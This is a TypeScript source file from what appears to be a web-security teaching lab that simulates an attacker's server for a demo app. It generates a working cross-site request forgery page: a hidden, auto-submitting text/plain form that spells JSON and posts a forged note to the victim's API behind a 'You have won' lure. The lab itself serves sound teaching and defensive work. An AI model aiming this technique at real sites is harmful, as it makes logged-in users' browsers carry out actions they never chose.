import { type LabSettings, weakOrigin } from '../environment.ts';
import type { Victim } from './findings.ts';

/** What a window shows that a script opened with its loot in the address. */
export function receivedPage(): string {
  return page('Received. This window closes.', '', 'setTimeout(close, 1500)');
}

/**
 * A page of another site that posts a note in the victim's name: first in a frame nobody sees, then as a window of its
 * own, so that the answer can be looked at. In text/plain a form can spell JSON, and needs no leave to be sent.
 */
export function forgingPage(settings: LabSettings, victim: Victim): string {
  const target = `${victim === 'coatcheck' ? settings.app : weakOrigin(settings)}/api/notes`;
  const body = `<form method="post" enctype="text/plain" action="${target}" target="answer"><input type="hidden" name='{"title":"${forgedTitle}","body":"' value='"}'></form><iframe name="answer" hidden title="The answer"></iframe>`;
  const script = `
    const form = document.forms[0];
    document.querySelector('iframe').addEventListener('load', async () => {
      await fetch('/csrf/sent?victim=${victim}', { method: 'POST' });
      form.target = '_self';
      form.submit();
    }, { once: true });
    form.submit();`;
  return page('You have won. One moment…', body, script);
}

/** The lab's page looks for a note of that title. */
const forgedTitle = 'Written by another site';

function page(text: string, body: string, script: string): string {
  return `<!doctype html><html lang="en"><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>The attacker’s server (lab)</title><style>:root{color-scheme:light dark}body{font:1rem/1.5 system-ui;padding:2rem}</style><body><p>The attacker’s server of the Coatcheck demo’s lab.</p><p>${text}</p>${body}<script>${script}</script>`;
}
